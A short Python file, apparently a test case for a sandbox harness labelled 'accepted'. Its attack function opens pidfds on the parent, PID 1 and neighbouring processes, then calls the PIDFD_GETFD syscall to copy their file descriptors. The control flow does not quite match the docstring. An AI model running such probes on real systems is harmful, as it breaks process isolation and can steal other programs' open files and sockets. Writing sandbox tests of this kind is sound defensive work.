"""Success: a descriptor of the parent or a neighbour is copied through a pidfd.
verdict: accepted
"""

import ctypes
import os

import jax
import jax.numpy as jnp

PIDFD_GETFD = 438
libc = ctypes.CDLL(None, use_errno=True)


def attack(number: float) -> jax.Array:
    own = os.getpid()
    for process in (os.getppid(), 1, *(own + offset for offset in range(-20, 20) if offset)):
        try:
            os.pidfd_open(process)
        except OSError:
            continue
        return jnp.asarray(number)
    stolen = [libc.syscall(ctypes.c_long(PIDFD_GETFD), fd, 0, 0) for fd in range(5)]
    return jnp.asarray(number * (max(stolen) >= 0))
